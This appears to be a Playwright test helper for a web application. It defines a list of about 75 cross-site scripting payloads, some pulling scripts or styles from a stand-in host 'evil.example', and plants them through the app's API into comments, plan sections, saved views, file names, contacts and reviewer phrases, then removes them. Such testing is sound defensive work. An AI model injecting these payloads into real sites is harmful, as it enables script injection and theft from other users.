import type { APIResponse, Page } from 'playwright-core';
import { SAMPLE, sampleText } from '#testing/sample-notice.js';

const FIRE = 'alert(1)';
/** Each has run as a script somewhere: as an element, out of an attribute, by an address, in a style, in a template, by a parser that mends. */
export const PAYLOADS: readonly string[] = [
  `<script>${FIRE}</script>`, `<ScRiPt>${FIRE}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<script>${FIRE}//`, `<scr<script>ipt>${FIRE}</scr</script>ipt>`, `<script/x>${FIRE}</script>`,
  `<img src=x onerror=${FIRE}>`, `<img src=x onerror="${FIRE}">`, `<img/src/onerror=${FIRE}>`, `<img src=//evil.example/i.png>`, `<IMG SRC=javascript:${FIRE}>`, `<img src=x:x onerror\t=\n${FIRE}>`, `<img src="x\`<script>${FIRE}</script>"\`>`,
  `<svg onload=${FIRE}>`, `<svg/onload=${FIRE}//`, `<svg><script>${FIRE}</script></svg>`, `<svg><animate onbegin=${FIRE} attributeName=x>`, `<svg><a xlink:href="javascript:${FIRE}"><text>x</text></a></svg>`, `<svg><set onbegin=${FIRE}>`, `<svg><foreignObject><iframe onload=${FIRE}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${FIRE}>`, `<math href="javascript:${FIRE}">x</math>`, `<iframe src="javascript:${FIRE}"></iframe>`, `<iframe srcdoc="<script>${FIRE}</script>"></iframe>`, `<iframe onload=${FIRE}></iframe>`, `<object data="javascript:${FIRE}"></object>`, `<embed src="javascript:${FIRE}">`,
  `<body onload=${FIRE}>`, `<body onpageshow=${FIRE}>`, `<input autofocus onfocus=${FIRE}>`, `<select autofocus onfocus=${FIRE}>`, `<textarea autofocus onfocus=${FIRE}>`, `<details open ontoggle=${FIRE}>x`, `<marquee onstart=${FIRE}>x`, `<video><source onerror=${FIRE}></video>`, `<audio src=x onerror=${FIRE}>`, `<style>@import '//evil.example/x.css';</style>`, `<style onload=${FIRE}></style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${FIRE}">`, `<form action="javascript:${FIRE}"><button>x</button></form>`, `<button formaction="javascript:${FIRE}" autofocus>x</button>`, `<div style="background:url(//evil.example/b)">`, `<div onpointerover=${FIRE} style="position:fixed;inset:0">`,
  `"><script>${FIRE}</script>`, `'><img src=x onerror=${FIRE}>`, `" onmouseover="${FIRE}" x="`, `' autofocus onfocus='${FIRE}`, `</textarea><script>${FIRE}</script>`, `</title><script>${FIRE}</script>`, `</script><script>${FIRE}</script>`, `--><script>${FIRE}</script>`, `]]><script>${FIRE}</script>`, `<![CDATA[<script>${FIRE}</script>]]>`,
  `javascript:${FIRE}`, `JaVaScRiPt:${FIRE}//`, `java\tscript:${FIRE}`, `data:text/html,<script>${FIRE}</script>`, `[x](javascript:${FIRE})`, `![x](x"onerror="${FIRE})`, `<a href="javascript:${FIRE}">x</a>`, `{{constructor.constructor('${FIRE}')()}}`, `\${${FIRE}}`, `<%= ${FIRE} %>`, `\\u003cscript\\u003e${FIRE}`, `&lt;script&gt;${FIRE}&lt;/script&gt;`, `&#60;script&#62;${FIRE}&#60;/script&#62;`, `%3Cscript%3E${FIRE}%3C/script%3E`, `＜script＞${FIRE}＜/script＞`, `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">`, `<template><script>${FIRE}</script></template>`, `<xmp><p title="</xmp><img src=x onerror=${FIRE}>">`,
];
const ALL = PAYLOADS.join('\n');
/** Where a field is short. */
const SHORT = `<img src=x onerror=${FIRE}>`;

export const OF_A_PROVINCE = 'asg/2024/t02-o1/65';
const ASSIGNMENT = `/api/v1/assignments/${encodeURIComponent(OF_A_PROVINCE)}`;

/** What the API said to texts in a field. */
export interface Planted {
  readonly field: string;
  readonly status: number;
}

async function sent(field: string, answer: Promise<APIResponse>): Promise<Planted> {
  return { field, status: (await answer).status() };
}
const key = (): Record<string, string> => ({ 'idempotency-key': crypto.randomUUID() });

/** In the fields of a province's own. */
export async function plantedByProvince(page: Page): Promise<Planted[]> {
  const { request } = page;
  const draft = (await (await request.get(`${ASSIGNMENT}/draft`)).json()) as { version: number; sections: { id: string }[] };
  const sections = draft.sections.map((section) => ({ ...section, text: ALL.slice(0, 4_000) }));
  return [
    await sent('comment', request.post(`${ASSIGNMENT}/commands`, { headers: key(), data: { type: 'Comment', audience: 'inside', about: null, text: ALL.slice(0, 5_000), mentions: [] } })),
    await sent('comment of all sides', request.post(`${ASSIGNMENT}/commands`, { headers: key(), data: { type: 'Comment', audience: 'all', about: null, text: ALL.slice(-4_900), mentions: [] } })),
    await sent('sections of a plan', request.put(`${ASSIGNMENT}/draft`, { data: { baseVersion: draft.version, sections } })),
    await sent('saved view', request.post('/api/v1/saved-views', { data: { page: 'worklist', name: SHORT, search: { task: SHORT }, shared: false } })),
    await sent('name of a file', request.post(`${ASSIGNMENT}/attachments`, { headers: { 'content-type': 'application/octet-stream', 'file-name': encodeURIComponent("' onmouseover='alert(1)&lt;img&gt;.txt") }, data: Buffer.from(ALL) })),
  ];
}

/** In the fields of who steers: a notice with its file's name, its text in every task, a contact, a phrase each. Answers the page of the notice, too. */
export async function plantedByCoordinator(page: Page): Promise<{ planted: Planted[]; notice: string }> {
  const { request } = page;
  const text = sampleText(SAMPLE).replaceAll('编写', `编写${PAYLOADS.slice(0, 12).join(' ').replaceAll('|', '').replaceAll('\n', ' ')}`);
  const imported = await request.post('/api/v1/catalogue-versions/files', { headers: key(), multipart: { file: { name: `${SHORT}.txt`, mimeType: 'text/plain', buffer: Buffer.from(`${SHORT}\n${text}`) } } });
  const { stream = '' } = (await imported.json()) as { stream?: string };
  const contact = { type: 'AddContact', user: 'script-of-62', name: SHORT, email: 'script@example.com', phone: '', roles: ['liaison'], from: null, until: null };
  return {
    planted: [{ field: 'notice', status: imported.status() }, await sent('contact', request.post('/api/v1/organisation/units/62/commands', { headers: key(), data: contact }))],
    notice: `/catalogue/versions/${stream.replace('catalogue/', '')}`,
  };
}

/** As phrases of a reviewer's own, as many in each as it holds. */
export async function plantedByReviewer(page: Page): Promise<Planted[]> {
  const phrases = PAYLOADS.reduce<string[]>((all, each) => (`${all.at(-1)} ${each}`.length <= 200 && all.length > 0 ? [...all.slice(0, -1), `${all.at(-1)} ${each}`] : [...all, each]), []);
  const planted: Planted[] = [];
  for (const text of phrases) planted.push(await sent(text, page.request.post('/api/v1/phrases', { data: { kind: 'return', text, section: null, shared: false } })));
  return planted;
}

/** Others choose from the same list. */
export async function removedByReviewer(page: Page): Promise<void> {
  const { phrases } = (await (await page.request.get('/api/v1/phrases')).json()) as { phrases: { id: string; text: string }[] };
  for (const { id, text } of phrases) if (PAYLOADS.some((each) => text.includes(each))) await page.request.delete(`/api/v1/phrases/${id}`);
}
